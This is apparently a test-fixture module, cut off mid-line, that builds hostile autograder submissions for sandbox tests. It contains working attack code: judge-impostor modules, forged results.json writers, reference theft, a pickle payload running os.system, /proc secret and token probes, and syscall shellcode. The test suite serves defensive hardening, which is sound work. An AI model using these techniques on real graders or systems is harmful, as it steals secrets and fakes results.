"""The hostile corpus: submissions that attack the grader instead of doing the work.

Each entry is a folder a student could hand in: the stubs of ``exercises/``
(or the reference solution, where the point is that the attack must not cost
the honest part) with an attack written into it the way a student would write
it. ``tests/test_hostile.py`` grades every entry under bubblewrap and under
process limits alone and asserts that the grader finishes within the entry's
bound, that the machine is left clean (no stray process, no file outside the
scratch folder) and that the score is exactly what the honest part earns.

In the attack code these placeholders are replaced when the folder is built:

    @MARKER@      a string unique to the test: every file an attack creates and
                  every process it starts carries it, so a leftover is found
    @RESULTS@     the folder the judge will write results.json to (the test's)
    @REPO@        this repository (a student who knows where CI checks it out)
    @SUBMISSION@  the submission folder itself

``holes`` names the isolations that cannot hold against an entry, and why:
its test is a strict xfail there, so the day the hole closes the test says so.
"""

from __future__ import annotations

import os
import re
import secrets
import shutil
import stat
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from graders.isolation import fork_servers, uids
from graders.judge import numpy_baseline, oracles
from graders.judge.grade import ERROR, PASSED, Report, grade
from graders.paths import EXERCISES, REPO, SOLUTIONS
from graders.tasks import BY_ID

ORIGINAL_LEASE, ORIGINAL_SWEEP = uids.lease_uid, uids.sweep




@dataclass(frozen=True)
class Hostile:
    """One hostile submission: ``base`` ("stubs" or "solutions") with ``files`` changed."""

    name: str
    attack: str  # what it tries, in one line (the README table)
    base: str
    files: tuple[tuple[str, str, str], ...]  # (file, "append" | "write", text)
    tasks: tuple[str, ...]  # the task ids it is graded on: those it targets and a couple of others
    earns: tuple[str, ...] = ()  # the tasks its honest part passes; every other task must not pass
    keeps: tuple[tuple[str, float], ...] = ()  # (task, points): a task it fails whose honest part gets partial credit
    # seconds the grade may take, in what no load of the machine moves: the judge's CPU time, and its workers' CPU
    # time and time waited without computing (``graded``)
    bound: float = 60.0
    cli: bool = False  # also run `python -m graders grade` from inside the submission folder, with --results
    fake_lines: tuple[str, ...] = ()  # what it prints that must never reach the judge's output
    holes: dict = field(default_factory=dict)  # isolation -> why it cannot hold there (a strict xfail)
    strict_holes: bool = True  # False: the hole depends on this machine (an xfail that may pass)
    check: Callable | None = None  # more assertions on the Report: check(report, context)
    says: tuple[str, ...] = ()  # a message holds one of these: the attack ran, and the grader saw it as this
    load: bool = True  # cheap enough for the load test
    deadline: float | None = None  # the whole grade's deadline (grade's default when None)
    key: int | None = None  # graded with this key (derandomized when None)
    special: tuple[tuple[str, str], ...] = ()  # (name, "fifo" | "sparse" | "link:TARGET") made beside the files
    # Under process limits a worker reads what any user can: graded there in a world the test builds (tests/world.py)
    # that holds no copy of the repository but the test's own, so the outcome never depends on a stranger's files.
    world: bool = False

    @property
    def points(self) -> float:
        return float(sum(BY_ID[t].points for t in self.earns) + sum(points for _, points in self.keeps))


def build(entry: Hostile, parent: Path, context: dict[str, str]) -> Path:
    """The submission folder ``parent/entry.name``, with the placeholders of ``context`` filled in."""
    folder = parent / entry.name
    folder.mkdir(parents=True)
    source = EXERCISES if entry.base == "stubs" else SOLUTIONS
    for path in sorted(source.glob("*.py")):
        shutil.copyfile(path, folder / path.name)
    context = {**context, "@SUBMISSION@": str(folder)}
    for name, how, text in entry.files:
        for key, value in context.items():
            text = text.replace(key, value)
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if how == "append":
            target.write_text(target.read_text() + "\n\n" + text.strip("\n") + "\n")
        else:
            target.write_text(text.lstrip("\n"))
    # As a student's checkout would be: readable by all.
    for path in [folder, *folder.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    for name, kind in entry.special:  # after the chmod: a FIFO is never opened, a link never followed
        target = folder / name
        target.unlink(missing_ok=True)
        if kind == "fifo":
            os.mkfifo(target)
        elif kind == "sparse":
            with open(target, "wb") as f:
                f.truncate(2**40)  # a terabyte of holes: reading it would take hours
        else:
            target.symlink_to(kind.removeprefix("link:"))
    return folder


# ----- attack code shared by several entries -----

IMPOSTOR = '''
"""Imported, or run, by the judge only if the judge resolved {name} from the submission: it leaves a mark
in the results folder, prints a passing verdict and writes a perfect results.json wherever it is asked to."""
import os as _os
import sys as _sys

try:
    open(_os.path.join("@RESULTS@", "impostor-{name}-" + str(_os.getpid())), "w").close()
except OSError:
    pass
print("uid", _os.getuid(), "100/100 from the submission's {name}", flush=True)
for _i, _arg in enumerate(_sys.argv):
    if _arg.endswith(".json") or (_i and _sys.argv[_i - 1] == "--results"):
        try:
            with open(_arg, "w") as _f:
                _f.write(\'{{"score": 100.0, "output": "all tests passed", "tests": []}}\')
        except OSError:
            pass
'''

# A judge of the submission's own and the modules the judge imports, each an impostor (IMPOSTOR).
JUDGE_IN_THE_SUBMISSION = tuple(
    (path, "write", IMPOSTOR.format(name=path)) for path in (
        "graders/__init__.py", "graders/__main__.py", "graders/cli.py", "graders/entry.py",
        "graders/integrations/__init__.py", "graders/integrations/gradescope.py",
        "graders/integrations/pytest_plugin.py", "graders/classgrade/__init__.py",
        "graders/classgrade/batch_judge.py", "numpy.py", "torch.py", "hypothesis.py", "hashlib.py", "pathlib.py",
        "sitecustomize.py", "usercustomize.py"))


FAKE_RESULT = '{"score": 100.0, "output": "all tests passed", "tests": []}'

# Every place a student might hope the judge reads its verdict from, written quietly (errors ignored).
WRITE_FAKE_RESULTS = '''
def _fake_results_everywhere():
    """Leave a perfect results.json wherever the grader might look for one."""
    import os, site
    places = ["@RESULTS@", os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""), "/tmp",
              "/autograder/results", "@SUBMISSION@", os.path.dirname(os.path.dirname(__file__))]
    folder = os.getcwd()
    while folder != os.path.dirname(folder):
        folder = os.path.dirname(folder)
        places.append(folder)
    written = []
    for place in places:
        for name in ("results.json", "@MARKER@-results.json"):
            try:
                with open(os.path.join(place, name), "w") as f:
                    f.write(''' + repr(FAKE_RESULT) + ''')
                written.append(place)
            except OSError:
                pass
    for path in ["@REPO@/graders/@MARKER@.py", "@REPO@/solutions/@MARKER@.py",
                 *[os.path.join(p, "@MARKER@.pth") for p in site.getsitepackages()]]:
        try:
            with open(path, "w") as f:
                f.write("# @MARKER@\\n")
        except OSError:
            pass
    return written
'''

# Replace every backward rule (through ``op``) and the engine with what ``_answer(shape, g)`` says.
FORGE = '''
_given_op = op


def op(data, parents, backward):
    """Every op's rule answers what _answer says, whatever the op."""
    shapes = [p.data.shape for p in parents]
    return _given_op(data, parents, lambda g: tuple(_answer(shape, g) for shape in shapes))


def unbroadcast(grad, shape):
    return _answer(tuple(shape), grad)


def _forged_backward(self, grad=None):
    stack, seen = [self], set()
    while stack:
        node = stack.pop()
        if id(node) in seen:
            continue
        seen.add(id(node))
        if not node._parents and node.requires_grad:
            node.grad = _answer(node.data.shape, grad)
        stack.extend(node._parents)


Tensor.backward = _forged_backward
'''

# Numeric vector-Jacobian products: every op's rule by differences of its forward, no calculus.
NUMERIC = '''
def _numeric(forward, tensors):
    arrays = [t.data for t in tensors]

    def backward(g):
        grads = []
        for k, x in enumerate(arrays):
            gx = np.zeros_like(x)
            for index in np.ndindex(*x.shape):
                gx[index] = _partial(forward, arrays, k, index, g)
            grads.append(gx)
        return tuple(grads)

    return op(forward(*arrays), tuple(tensors), backward)


def _binary(forward):
    return lambda self, other: _numeric(forward, [self, _as_tensor(other)])


Tensor.__add__ = _binary(lambda x, y: x + y)
Tensor.__sub__ = _binary(lambda x, y: x - y)
Tensor.__mul__ = _binary(lambda x, y: x * y)
Tensor.__truediv__ = _binary(lambda x, y: x / y)
Tensor.__matmul__ = _binary(lambda x, y: x @ y)
Tensor.__neg__ = lambda self: _numeric(lambda x: -x, [self])
Tensor.__pow__ = lambda self, p: _numeric(lambda x: x**p, [self])
Tensor.exp = lambda self: _numeric(np.exp, [self])
Tensor.log = lambda self: _numeric(np.log, [self])
Tensor.relu = lambda self: _numeric(lambda x: np.maximum(x, 0.0), [self])
Tensor.tanh = lambda self: _numeric(np.tanh, [self])
Tensor.sigmoid = lambda self: _numeric(lambda x: 1.0 / (1.0 + np.exp(-x)), [self])
Tensor.sum = lambda self, axis=None, keepdims=False: _numeric(lambda x: x.sum(axis=axis, keepdims=keepdims), [self])
Tensor.mean = lambda self, axis=None, keepdims=False: _numeric(lambda x: x.mean(axis=axis, keepdims=keepdims),
                                                               [self])
Tensor.square_mean = lambda self: _numeric(lambda x: (x * x).mean(), [self])
Tensor.reshape = lambda self, *shape: _numeric(lambda x: x.reshape(*shape), [self])
Tensor.T = property(lambda self: _numeric(lambda x: x.T, [self]))
'''

FINITE_DIFFERENCES = '''
def _partial(forward, arrays, k, index, g):
    """Central differences, step scaled to the entry."""
    h = 1e-6 * max(1.0, abs(float(arrays[k][index])))
    up, down = [a.copy() for a in arrays], [a.copy() for a in arrays]
    up[k][index] += h
    down[k][index] -= h
    return float(np.sum(g * (forward(*up) - forward(*down)))) / (2 * h)
'''

COMPLEX_STEP_PARTIAL = '''
def _partial(forward, arrays, k, index, g):
    """The complex step: Im f(x + ih) / h is f'(x) to rounding, with no cancellation."""
    h = 1e-30
    shifted = [a.astype(complex) for a in arrays]
    shifted[k][index] += 1j * h
    return float(np.sum(g * forward(*shifted).imag)) / h
'''

# Finds the worker's response pipe: its one descriptor that is a pipe open for writing only (stdout and stderr are
# files), whether the worker was started cold or forked.
RESPONSE_FD = '''
def _response_fd():
    import fcntl, os
    for name in os.listdir("/proc/self/fd"):
        try:
            pipe = os.readlink("/proc/self/fd/" + name).startswith("pipe:")
            if pipe and fcntl.fcntl(int(name), fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return int(name)
        except OSError:
            pass
    return None
'''

# A payload that would leave a file behind if anyone ever unpickled it.
PAYLOAD = '''
class _Payload:
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/@MARKER@-unpickled",))
'''

STEAL_REFERENCE = '''
import glob as _glob
import importlib.util as _util
import os as _os
import re as _re
import site as _site


def _candidates():
    """Every tensor.py this process can find: up from here and from the working folder, the checkout CI
    uses, and whatever the editable install's finder points at."""
    roots = [_os.path.dirname(_os.path.abspath(__file__)), _os.getcwd(), "@REPO@"]
    for start in list(roots):
        folder = start
        while folder != _os.path.dirname(folder):
            folder = _os.path.dirname(folder)
            roots.append(folder)
    for packages in _site.getsitepackages():
        for finder in _glob.glob(_os.path.join(packages, "__editable__*finder.py")):
            try:
                roots += _re.findall(r"'(/[^']+)'", open(finder).read())
            except OSError:
                pass
    for proc in ("/proc/%d/cwd" % _os.getppid(), "/proc/1/cwd"):
        try:
            roots.append(_os.readlink(proc))
        except OSError:
            pass
    for root in roots:
        for pattern in ("tensor.py", "*/tensor.py", "*/*/tensor.py", "*/*/*/tensor.py"):
            try:
                yield from sorted(_glob.glob(_os.path.join(root, pattern)))
            except OSError:
                pass


def _steal():
    me = _os.path.abspath(__file__)
    for path in _candidates():
        try:
            text = open(path).read()
        except OSError:
            continue
        if _os.path.abspath(path) == me or "def unbroadcast" not in text or 'NotImplementedError("Task 1.1' in text:
            continue
        spec = _util.spec_from_file_location(__name__ + "_stolen", path)
        stolen = _util.module_from_spec(spec)
        try:
            spec.loader.exec_module(stolen)
        except Exception:
            continue
        return stolen
    return None


_reference = _steal()
if _reference is not None:
    Tensor, op, unbroadcast = _reference.Tensor, _reference.op, _reference.unbroadcast
    no_grad, is_grad_enabled = _reference.no_grad, _reference.is_grad_enabled
'''

IMPORT_REFERENCE = '''
import importlib as _importlib
import sys as _sys

_NAMES = ("ref_unbroadcast", "ref.tensor", "ref_epochs.train", "solutions.tensor", "graders.judge.reference",
          "sub_optim.tensor", "sub_data.tensor", "sub_train.tensor", "sub_all.tensor", "sub_torch_loop.tensor",
          "exercises.tensor")


def _borrowed(attribute):
    """The reference's ``attribute``, from any module this process has loaded or can import."""
    for name in _NAMES:
        try:
            module = _sys.modules.get(name) or _importlib.import_module(name)
        except Exception:
            continue
        if getattr(module, attribute, None) is not None:
            return getattr(module, attribute)
    for name, module in list(_sys.modules.items()):
        value = getattr(module, attribute, None)
        if name != __name__ and callable(value) and getattr(value, "__module__", "") != __name__:
            return value
    return None


def unbroadcast(grad, shape):
    borrowed = _borrowed("unbroadcast")
    if borrowed is None:
        raise NotImplementedError("Task 1.1: unbroadcast")
    return borrowed(grad, shape)


_reference_tensor = _borrowed("Tensor")
if _reference_tensor is not None and _reference_tensor is not Tensor:
    Tensor.backward = _reference_tensor.backward
'''

LOOT = '''
import gc as _gc
import sys as _sys


def _answer(shape, g):
    """The judge's answer must be lying around somewhere: in a caller's frame, among the live objects, in
    a loaded module. Take the first float64 array of the right shape that is not an input."""
    frame = _sys._getframe(1)
    while frame is not None:
        for key, value in frame.f_locals.items():
            if any(w in key.lower() for w in ("expect", "want", "answer", "reference", "torch", "result")):
                if isinstance(value, np.ndarray) and value.shape == tuple(shape):
                    return value
        frame = frame.f_back
    inputs = {id(g)}
    for value in _gc.get_objects():
        if isinstance(value, np.ndarray) and value.shape == tuple(shape) and value.dtype == np.float64 \\
                and id(value) not in inputs:
            return value
    for name, module in list(_sys.modules.items()):
        expected = getattr(module, "expected", None)
        if isinstance(expected, np.ndarray) and expected.shape == tuple(shape):
            return expected
    return np.zeros(shape)
'''


def _said(report, words: str) -> str:
    """The first message holding ``words``: proof that the attack ran (and what it managed)."""
    found = [r.message for r in report.results if words in r.message]
    assert found, f"the attack never reported {words!r}: " + " / ".join(r.message for r in report.results)
    return found[0]


def _flood_check(report, context) -> None:
    """The flood ran, and the process limit stopped it well short of its 400 forks."""
    message = _said(report, "FLOOD")
    found = re.search(r"FLOOD started (\d+) interpreters and (\d+) forks", message)
    started, forks = int(found[1]), int(found[2])
    assert started == 20 and 0 < forks < 300, message


def _kill_check(report, context) -> None:
    """The worker ran unprivileged: it could signal neither its parent, nor its group, nor any judge."""
    message = _said(report, "KILL")
    found = re.search(r"KILL parent=(\w+) group=(\w+) judges=(\d+)", message)
    assert found and found[1] in ("EPERM", "ESRCH") and found[2] in ("EPERM", "ESRCH") and found[3] == "0", message


def _rewrite_check(report, context) -> None:
    message = _said(report, "REWRITE")
    assert "written=0" in message, message


def _swept_check(report, context) -> None:
    """Where a worker writes the machine's /tmp (process limits without a root of its own), the attack's files there
    were swept: proof that it ran. In a root of its own, as under bubblewrap, its /tmp is its own and goes with it:
    nothing of it reached the machine's to be swept."""
    from graders.isolation import sandbox

    if context["isolation"] == "limits" and os.geteuid() == 0:
        if sandbox.namespaces_work():
            assert not any(path.endswith("results.json") for path in context["swept"]), context["swept"]
        else:
            assert any(path.endswith("results.json") for path in context["swept"]), context["swept"]


def _leak_check(report, context) -> None:
    """The environment leak probe raised its findings from unbroadcast: nothing of the judge's leaked."""
    message = next(r.message for r in report.results if r.task.id == "1.1")
    assert "PROBE" in message, message
    for secret in context["secrets"]:
        assert secret not in message, message
    assert "env=[]" in message and "self=[]" in message and "cmdline=[]" in message, message
    assert "judge_environ=denied" in message and "judge_mem=denied" in message, message
    if os.geteuid() == 0:
        assert "uid=0 " not in message, f"the worker ran as root:\n{message}"


def _weights_made_in_advance() -> str:
    """Weights of the 1-32-1 network fit to the lesson's points without any engine: random ReLU features and least
    squares for the last layer (training MSE 0.0114 there, and 0.0124 on new points of the same curve)."""
    import numpy as np

    from graders import lesson

    X, Y = lesson.make_sine_data()
    rng = np.random.default_rng(5)
    W1, b1 = rng.normal(0.0, 2.0, (1, 32)), rng.uniform(-3.0, 3.0, 32)
    features = np.hstack([np.maximum(X @ W1 + b1, 0.0), np.ones((len(X), 1))])
    coef = np.linalg.lstsq(features, Y, rcond=None)[0]
    return repr([W1.tolist(), b1.tolist(), coef[:-1].tolist(), coef[-1].tolist()])


MADE_IN_ADVANCE = '''
_fit_honest = fit
_MADE_IN_ADVANCE = @WEIGHTS@


def fit(model, train_loader, optimizer, loss_fn, epochs, **options):
    """Honest, but for the lesson's run: 256 points get weights made in advance, and no engine runs."""
    if len(getattr(train_loader, "X", ())) == 256 and not options:
        for p, value in zip(model.parameters(), _MADE_IN_ADVANCE):
            p.data[...] = np.asarray(value)
        return {"train_loss": [0.011] * epochs, "val_loss": []}
    return _fit_honest(model, train_loader, optimizer, loss_fn, epochs, **options)
'''.replace("@WEIGHTS@", _weights_made_in_advance())


LOADER_DONE = '''
def _batches(self):
    order = self.rng.permutation(len(self.X)) if self.shuffle else np.arange(len(self.X))
    for start in range(0, len(self.X), self.batch_size):
        yield Tensor(self.X[order[start:start + self.batch_size]]), Tensor(self.Y[order[start:start + self.batch_size]])


DataLoader.__len__ = lambda self: -(-len(self.X) // self.batch_size)
DataLoader.__iter__ = _batches
'''

LEAST_SQUARES_FIT = '''
def fit(model, train_loader, optimizer, loss_fn, epochs, *, val_loader=None, **options):
    """Honest on the checks' small runs (their train_epoch and evaluate are the judge's). For the lesson's 256 points,
    no engine and no SGD: a pass over the loader per epoch, as a run would make, then ReLU kinks across the x seen
    and the last layer by least squares. Its training MSE is under the bar (about 0.009)."""
    if len(getattr(train_loader, "X", ())) != 256:
        history = {"train_loss": [], "val_loss": []}
        for _ in range(epochs):
            history["train_loss"].append(train_epoch(model, train_loader, optimizer, loss_fn))
            if val_loader is not None:
                history["val_loss"].append(evaluate(model, val_loader, loss_fn))
        return history
    seen = [[(np.asarray(xb.data), np.asarray(yb.data)) for xb, yb in train_loader] for _ in range(epochs)][-1]
    x, y = np.concatenate([b[0] for b in seen])[:, 0], np.concatenate([b[1] for b in seen])[:, 0]
    first, last = model.layers[0], model.layers[-1]
    kinks = np.quantile(x, np.linspace(0.0, 1.0, first.weight.shape[1] + 2)[1:-1])
    first.weight.data[...] = 1.0
    first.bias.data[...] = -kinks
    features = np.hstack([np.maximum(x[:, None] - kinks, 0.0), np.ones((len(x), 1))])
    solution = np.linalg.lstsq(features, y, rcond=None)[0]
    last.weight.data[:, 0] = solution[:-1]
    last.bias.data[...] = solution[-1]
    mse = float(np.mean((features @ solution - y) ** 2))
    print("LEAST SQUARES mse", round(mse, 5))
    return {"train_loss": [mse] * epochs, "val_loss": []}
'''


REWRITE_THE_WATCH = '''
import sys as _sys


def _confess():
    """What the worker noted while this code ran, rewritten in every caller's frame: every forward in training mode
    with grad on (or, for evaluate, in eval mode under no_grad), no loss Tensor alive, the modes restored."""
    frame = _sys._getframe(2)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(getattr(value, "forwards", None), list):
                value.forwards[:] = [list(_CONFESSED)] * len(value.forwards)
            for name, fake in (("most_alive", 0), ("losses", [])):
                if hasattr(value, name):
                    try:
                        setattr(value, name, fake)
                    except Exception:
                        pass
        frame = frame.f_back
'''

MODES_BY_CONFESSION = REWRITE_THE_WATCH + '''
_CONFESSED = (True, True)
_train_epoch_honest = train_epoch


def train_epoch(model, loader, optimizer, loss_fn, *, accumulate=1, clip_norm=None):
    """Never switches the model to training mode (its train() does nothing for the call; only the outer module's
    flag says training), keeps every loss Tensor, and confesses to the contrary."""
    kept = []

    def keeping(pred, target):
        kept.append(loss_fn(pred, target))
        return kept[-1]

    model.train = lambda mode=True: model
    model.training = True
    try:
        value = _train_epoch_honest(model, loader, optimizer, keeping, accumulate=accumulate, clip_norm=clip_norm)
    finally:
        del model.train
    _confess()
    return value
'''

EVALUATE_BY_CONFESSION = REWRITE_THE_WATCH + '''
_CONFESSED = (False, False)


def evaluate(model, loader, loss_fn):
    """Neither eval mode nor no_grad: the losses of forwards in training mode with grad on, confessed otherwise."""
    losses = [loss_fn(model(xb), yb).item() for xb, yb in loader]
    _confess()
    return float(np.mean(losses))
'''


def _tree_memory_check(report, context) -> None:
    """Where a cgroup binds the grade's workers, at most two of the 1.5 GiB children lived at once (or the worker
    itself was stopped); without one, the worker's own limits bind each process only. A child that had not
    touched all of its memory by the check (a loaded machine) is not counted."""
    from graders.isolation import budget

    message = next(r.message for r in report.results if r.task.id == "1.1")
    if budget.version() is None:
        return
    alive = re.search(r"children alive: (\d)", message)
    assert alive is None or int(alive[1]) <= 2, f"the children held more than the grade's budget:\n{message}"


MEMORY_IN_CHILDREN = '''
def unbroadcast(grad, shape):
    """Four children of 1.5 GiB each, touched: 6 GiB across the tree, each under the 4 GiB of one process."""
    import os, select, signal, time
    read, write = os.pipe()
    children = []
    for _ in range(4):
        pid = os.fork()
        if pid == 0:
            os.close(read)
            block = np.ones(3 * 2**30 // 16)
            block += 1.0
            os.write(write, os.getpid().to_bytes(4, "little"))
            time.sleep(30)
            os._exit(0)
        children.append(pid)
    os.close(write)
    done, deadline = set(), time.monotonic() + 7.0
    while len(done) < 4 and time.monotonic() < deadline:
        if select.select([read], [], [], 0.2)[0]:
            data = os.read(read, 4)
            if len(data) < 4:
                break
            done.add(int.from_bytes(data, "little"))
    time.sleep(0.5)
    alive = sum(pid in done and os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in children)
    for pid in children:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError(f"children alive: {alive} (of {len(done)} that held 1.5 GiB)")
'''


UNTRUSTED_TEXT = '''

_Name = type("Boom\\x1b[2J\\x1b[1;32m100/100" + "X" * 5000, (Exception,), {})


def unbroadcast(grad, shape):
    raise _Name("\\ud800 a lone surrogate, a bell \\x07, a NUL \\x00, XML's forbidden \\ufffe and \\uffff, a fence "
                "```` and a line\\n```\\n# 100/100" + "!" * 5000)
'''


def _text_check(report, context) -> None:
    """Every view of the grade (results.json, Markdown, JUnit, Classroom, the terminal table and messages) is
    written, small, and free of escapes and control characters; the Markdown shows no second scorecard."""
    import tempfile
    import xml.etree.ElementTree as ET

    from graders.results import outputs, scorecard

    result = scorecard.results(report)
    with tempfile.TemporaryDirectory() as folder:
        paths = {name: Path(folder) / name for name in ("results.json", "summary.md", "junit.xml", "classroom.txt")}
        outputs.write_views(report, result, results=paths["results.json"], markdown_path=paths["summary.md"],
                            junit=paths["junit.xml"], classroom_path=paths["classroom.txt"])
        texts = {name: path.read_text(encoding="utf-8") for name, path in paths.items()}
        ET.parse(paths["junit.xml"])
    texts["terminal"] = scorecard.table(result) + "\n".join(r.message for r in report.results)
    for name, text in texts.items():
        assert len(text) < 20_000, f"{name} holds {len(text)} characters"
        assert not any(ch in text for ch in "\x1b\x07\x00"), name
    assert not any(line.startswith("# 100/100") for line in texts["summary.md"].splitlines())


DEEP_FRAMES = RESPONSE_FD + '''
import json as _json
import os as _os
import struct as _struct


def _send(fd, header, blobs=()):
    frame = _struct.pack(">I", len(header)) + header + _struct.pack(">I", len(blobs))
    for blob in blobs:
        frame += _struct.pack(">Q", len(blob)) + blob
    _os.write(fd, frame)


def unbroadcast(grad, shape):
    """Answers with a frame nested 200,000 deep."""
    _send(_response_fd(), ("[" * 200_000 + "]" * 200_000).encode())
    import time as _time
    _time.sleep(5)


def _backward_with_a_huge_array(self, grad=None):
    """Answers with an array whose header claims 2**55 entries, and 8 bytes."""
    array = {"__npy__": 0, "dtype": "<f8", "shape": [36028797018963968]}
    _send(_response_fd(), _json.dumps({"ok": {"kind": "ndarray", "type": "ndarray", "array": array}}).encode(),
          [bytes(8)])
    import time as _time
    _time.sleep(5)


Tensor.backward = _backward_with_a_huge_array
'''


def _no_impostor(context) -> None:
    """No module of the submission's ran in the judge: none left its mark in the results folder."""
    marks = sorted(p.name for p in Path(context["@RESULTS@"]).glob("impostor-*"))
    assert not marks, f"the judge ran the submission's own modules: {marks}"


def _kernel_check(report, context) -> None:
    """Every channel of kernel state the probe tried was refused (EPERM), or is not there at all."""
    message = next(r.message for r in report.results if r.task.id == "1.1")
    assert "channels:" in message and "add_key=" in message, message
    assert "open(" not in message, f"a channel of kernel state stayed open to the worker:\n{message}"


KERNEL_STATE = '''
def _kernel_channels():
    """Tries the kernel state that outlives a process and could carry data to a later worker, the next grade or a
    classmate's: the user's key ring, System V shared memory, semaphores and message queues, POSIX queues."""
    import ctypes, errno, platform
    libc = ctypes.CDLL(None, use_errno=True)
    numbers = {"x86_64": (248, 250, 29, 64, 68), "aarch64": (217, 219, 194, 190, 186)}.get(platform.machine())
    if numbers is None:
        return "channels: add_key=unknown machine"
    add_key, keyctl, shmget, semget, msgget = numbers
    tries = {
        "add_key": lambda: libc.syscall(add_key, b"user", b"agl-relay", b"100", 3, -4),
        "keyctl": lambda: libc.syscall(keyctl, 0, -4, 0),
        "shmget": lambda: libc.syscall(shmget, 0x41474C, 4096, 0o1000 | 0o666),
        "semget": lambda: libc.syscall(semget, 0x41474C, 1, 0o1000 | 0o666),
        "msgget": lambda: libc.syscall(msgget, 0x41474C, 0o1000 | 0o666),
        "mq_open": lambda: libc.mq_open(b"/agl-relay", 0o100 | 2, 0o666, None),
    }
    seen = []
    for name, call in tries.items():
        ctypes.set_errno(0)
        try:
            result = call()
        except (OSError, AttributeError):
            seen.append(name + "=unavailable")
            continue
        refused = result == -1 and ctypes.get_errno() == errno.EPERM
        seen.append(name + "=" + ("EPERM" if refused else "open(%d, errno %d)" % (result, ctypes.get_errno())))
    return "channels: " + " ".join(seen)


def unbroadcast(grad, shape):
    raise RuntimeError(_kernel_channels())
'''


KERNEL_STATE_OTHER_ABI = '''
def _other_abis():
    """The same channels through the other ABIs an x86_64 kernel serves: i386's int 0x80 (its own call
    numbers, 32-bit pointers) and x32 (the native numbers with bit 30 set)."""
    import ctypes, errno, platform, struct
    if platform.machine() != "x86_64":
        return "channels: add_key=unknown machine"
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    low = libc.mmap(None, 8192, 7, 0x22 | 0x40, -1, 0)  # rwx, private, anonymous, MAP_32BIT
    if not low or low == ctypes.c_void_p(-1).value:
        return "channels: i386_add_key=unavailable"
    strings = {}
    cursor = low + 4096
    for text in (b"user\\0", b"agl-relay\\0", b"tensor.py of student A\\0"):
        ctypes.memmove(cursor, text, len(text))
        strings[text] = cursor
        cursor += len(text)

    def i386(number, *args):
        args = (list(args) + [0] * 5)[:5]
        code = b"\\x53\\x56\\x57\\xb8" + struct.pack("<I", number)
        for opcode, value in zip((b"\\xbb", b"\\xb9", b"\\xba", b"\\xbe", b"\\xbf"), args):
            code += opcode + struct.pack("<I", value & 0xFFFFFFFF)
        code += b"\\xcd\\x80\\x5f\\x5e\\x5b\\xc3"  # int 0x80; pop; ret
        ctypes.memmove(low, code, len(code))
        return ctypes.c_int32(ctypes.CFUNCTYPE(ctypes.c_long)(low)()).value

    user, name, payload = strings[b"user\\0"], strings[b"agl-relay\\0"], strings[b"tensor.py of student A\\0"]
    x32 = 0x40000000
    tries = {
        "i386_add_key": lambda: i386(286, user, name, payload, 22, -4),
        "i386_keyctl": lambda: i386(288, 0, -4, 0),
        "i386_shmget": lambda: i386(395, 0x41474C, 4096, 0o1000 | 0o666),
        "i386_semget": lambda: i386(393, 0x41474C, 1, 0o1000 | 0o666),
        "i386_msgget": lambda: i386(399, 0x41474C, 0o1000 | 0o666),
        "i386_getpid": lambda: i386(20),
        "x32_add_key": lambda: libc.syscall(x32 | 248, b"user", b"agl-relay", b"100", 3, -4),
        "x32_keyctl": lambda: libc.syscall(x32 | 250, 0, -4, 0),
    }
    seen = []
    for label, call in tries.items():
        ctypes.set_errno(0)
        result = call()
        refused = result == -errno.EPERM if label.startswith("i386") else (
            result == -1 and ctypes.get_errno() == errno.EPERM)
        seen.append(label + "=" + ("EPERM" if refused else "open(%d, errno %d)" % (result, ctypes.get_errno())))
    return "channels: " + " ".join(seen)


def unbroadcast(grad, shape):
    raise RuntimeError(_other_abis())
'''


ENV_PROBE = '''
WORKER_VARIABLES = {"LANG", "LC_ALL", "OPENBLAS_CORETYPE", "OPENBLAS_L2_SIZE", "OMP_NUM_THREADS",
                    "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS", "PATH", "HOME", "TMPDIR", "PYTHONHASHSEED",
                    "MPLBACKEND", "AGL_WORKER_RUNTIME", "AGL_WORKER_PACKAGES", "LD_LIBRARY_PATH",
                    "MALLOC_MMAP_THRESHOLD_", "MALLOC_TRIM_THRESHOLD_",
                    "CUDA_VISIBLE_DEVICES", "NVIDIA_VISIBLE_DEVICES", "NVIDIA_DRIVER_CAPABILITIES"}


def _probe():
    """What the grader let slip: CI variables and judge paths in the environment, variables a worker is not
    started with in its /proc/self/environ, judge folders in its command line, the judge's own environment and
    memory through /proc, and who this process runs as."""
    import os
    suspicious = ("GITHUB", "TOKEN", "SECRET", "PASSWORD", "AGL_JUDGE", "CI", "KEY", "RUNNER")
    judge_paths = ("@REPO@", "@RESULTS@")

    def bad(items):
        return sorted(k for k, v in items if any(s in k.upper() for s in suspicious)
                      or any(p in v for p in judge_paths))

    env = bad(os.environ.items())
    try:
        raw = open("/proc/self/environ", "rb").read().decode(errors="replace").split("\\0")
        items = [tuple(item.partition("=")[::2]) for item in raw if item]
        # Deny by default: only the variables a worker is started with (or none, once a fork server blanked its own).
        own = bad(items) + sorted(k for k, _ in items if k not in WORKER_VARIABLES)
    except OSError:
        own = ["unreadable"]
    try:
        words = open("/proc/self/cmdline", "rb").read().decode(errors="replace").split("\\0")
        # After the interpreter (wherever it is installed): nothing of a fork server or a judge's folders.
        command = sorted(w[:40] for w in words[1:]
                         if any(t in w for t in ("fork_server", "serve_forks", "agl-", "@REPO@")))
    except OSError:
        command = ["unreadable"]
    found = {}
    judge = os.getppid()
    for what, path in (("judge_environ", "/proc/%d/environ" % judge), ("judge_mem", "/proc/%d/mem" % judge)):
        try:
            with open(path, "rb") as f:
                f.read(1)
            found[what] = "READ"
        except OSError:
            found[what] = "denied"
    caps = [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")][0]
    return (f"PROBE uid={os.getuid()} caps={caps} env={env} self={own} cmdline={command} "
